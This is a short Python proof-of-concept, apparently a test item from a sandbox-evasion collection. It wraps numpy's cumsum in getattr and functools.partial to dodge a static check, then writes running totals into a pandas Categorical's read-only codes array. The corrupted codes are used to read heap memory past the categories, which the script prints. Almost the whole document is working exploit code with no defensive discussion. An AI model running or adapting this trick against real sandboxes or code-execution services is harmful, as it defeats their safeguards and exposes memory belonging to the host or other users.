# source: sandexec README, "The static check", "numpy's running totals with an output ... numpy 1.24 writes them into arrays flagged read-only"; numpy MaskedArray/ndarray.cumsum(axis, dtype, out); pandas Categorical.codes / take_nd unchecked codes
# family: getattr literal name, the fetched method wrapped in functools.partial (out= given through the partial)
# goal: functools.partial(getattr(src, "cumsum", None), 0, None)(codes): heap read out of bounds

import numpy as np
import pandas as pd
c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
k = c.codes
import functools
src = np.array([0, 40, 20, 60], dtype=np.int8)
g = functools.partial(getattr(src, "cumsum", None), 0, None)
g(k)
print("codes now", k)
vals = np.asarray(c)
print("read past the categories:", vals)
print("as bytes:", vals[1:].tobytes())
